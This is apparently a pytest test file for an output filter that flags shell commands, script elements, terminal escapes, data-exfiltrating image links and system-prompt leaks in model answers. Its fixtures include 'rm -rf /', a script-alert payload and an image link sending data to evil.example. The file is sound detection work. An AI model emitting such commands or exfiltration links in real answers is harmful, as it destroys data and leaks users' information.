"""The output filter finds what a program would run, and lets be what a reader is shown."""

import re
from pathlib import Path

import pyarrow as pa
import pytest
import yaml

from assay.kernel import ConfigurationError
from evaluation.filters import FilterResult, FilterSetting, build_filter
from evaluation.filters.output import build
from evaluation.filters.output._rules import rules
from evaluation.filters.output._settings import CHANNELS

CASES = yaml.safe_load((Path(__file__).parent / "cases.yaml").read_text("utf-8"))
UNSAFE = [(rule, text) for rule, texts in CASES["unsafe"].items() for text in texts]


def scan(text: str, **options: object) -> FilterResult:
    """Scan one text with the filter that the options say."""
    return build(FilterSetting(options=options)).scan(pa.array([text]))[0]  # type: ignore[arg-type]


@pytest.mark.parametrize(("rule", "text"), UNSAFE)
def test_what_a_program_would_run_is_found(rule: str, text: str) -> None:
    """Each rule finds its cases in running text, by its name."""
    result = scan(f"Here you are:\n{text}\nThat is all.")
    assert rule in {one.detail for one in result.findings}
    expected = {one.id: one.score for one in rules()}.get(rule, 1.0) >= 0.5
    assert result.flagged is expected


@pytest.mark.parametrize("text", CASES["ordinary"])
def test_ordinary_prose_is_not_flagged(text: str) -> None:
    """Talking about code, lists, prices and links is no unsafe output."""
    assert scan(text).flagged is False


@pytest.mark.parametrize("text", [text for _, text in UNSAFE if not {"\x1b", "\b", "`"} & set(text)])
def test_code_that_is_shown_is_noted_and_not_flagged(text: str) -> None:
    """In a fence the same is a finding below the threshold, unless a program takes it from there."""
    fenced = f"Like this:\n```\n{text}\n```\nDone."
    result = scan(fenced)
    assert result.findings
    assert result.flagged is False
    assert scan(fenced, code_share=1).score == scan(text).score


def test_a_fence_without_an_end_reaches_to_the_end() -> None:
    """As CommonMark has it, and as long as an answer is cut off."""
    assert not scan("~~~sh\nrm -rf /").flagged
    assert scan("rm -rf /\n~~~sh\n").flagged


def test_terminals_know_no_fences() -> None:
    """An escape sequence in a fence acts all the same."""
    assert scan("```\n\x1b[2J\n```").flagged


def test_every_rule_has_a_case() -> None:
    """No rule stands in the file that no case finds."""
    assert {rule.id for rule in rules()} <= {rule for rule, _ in UNSAFE}


def test_rules_have_ids_channels_and_words_to_look_for() -> None:
    """Ids are unique, channels are known, and no pattern repeats without a bound."""
    assert len({rule.id for rule in rules()}) == len(rules())
    for rule in rules():
        assert rule.channel in CHANNELS
        assert rule.needs
        assert not {"*", "+"} & set(unbounded(rule.pattern.pattern)), rule.id


def unbounded(pattern: str) -> str:
    """Return what is left of a pattern without classes, escapes and bounded repetitions."""
    bare = re.sub(r"\\.|\[(?:\\.|[^\]\\])+\]", "x", pattern)
    return re.sub(r"\{\d+(?:,\d+)?\}[+?]?", "", bare)


def test_findings_are_the_heaviest_of_what_overlaps() -> None:
    """A script element is one finding, not also a tag."""
    text = "<script>alert(1)</script>"
    assert [(one.detail, one.start, one.end) for one in scan(text).findings] == [("script-element", 0, len(text))]


def test_only_the_channels_that_are_named_count() -> None:
    """An application that feeds a shell alone is read for a shell alone."""
    text = "rm -rf / <script>alert(1)</script> ![x](https://evil.example/?data=0123456789)"
    assert {one.type for one in scan(text, channels=["shell"]).findings} == {"shell"}
    assert {one.type for one in scan(text).findings} == {"shell", "active_html", "data_exfiltration"}


def test_a_trusted_host_may_be_told_data() -> None:
    """Hosts of one's own and their subdomains are no way out; look-alikes are."""
    picture = "![x](https://{}/log?data=0123456789abcdef0123456789)"
    assert not scan(picture.format("img.shop.example"), trusted_hosts=["Shop.example"]).flagged
    assert scan(picture.format("badshop.example"), trusted_hosts=["shop.example"]).flagged


def test_a_marker_of_the_own_prompt_is_found_in_disguise() -> None:
    """A piece of the system prompt is a leak however its letters are written; a finding does not say it."""
    text = "It says: ＡＬＷＡＹＳ praise the blue\u200bbird."
    result = scan(text, markers=["always praise the bluebird"])
    assert [(one.type, one.detail, text[one.start : one.end]) for one in result.findings] == [
        ("prompt_leak", "marker-1", "ＡＬＷＡＹＳ praise the blue\u200bbird")
    ]


@pytest.mark.parametrize(
    ("options", "name"),
    [
        ({"channel": []}, "'channel'"),
        ({"channels": ["printer"]}, "'channels'"),
        ({"channels": []}, "'channels'"),
        ({"trusted_hosts": "x"}, "'trusted_hosts'"),
        ({"markers": ["short"]}, "'markers'"),
        ({"code_share": 3}, "'code_share'"),
        ({"threshold": "much"}, "'threshold'"),
        ({"threshold": True}, "'threshold'"),
    ],
)
def test_a_wrong_option_is_refused_by_name(options: dict[str, object], name: str) -> None:
    """What is not known or not possible is said, with the option's name."""
    with pytest.raises(ConfigurationError) as caught:
        build_filter("output", FilterSetting(options=options))  # type: ignore[arg-type]
    assert name in caught.value.message


def test_options_shape_the_digest() -> None:
    """Every option is in the recorded form, markers by their digest only."""
    chosen: list[dict[str, object]] = [
        {}, {"channels": ["shell"]}, {"code_share": 1}, {"trusted_hosts": ["a.example"]}, {"threshold": 0.6},
        {"markers": ["a secret marker"]}, {"markers": ["another marker"]},
    ]  # fmt: skip
    specs = [build(FilterSetting(options=options)).spec for options in chosen]  # type: ignore[arg-type]
    assert len({spec.digest for spec in specs}) == len(specs)
    assert "marker" not in str(specs[-1].options["markers"])
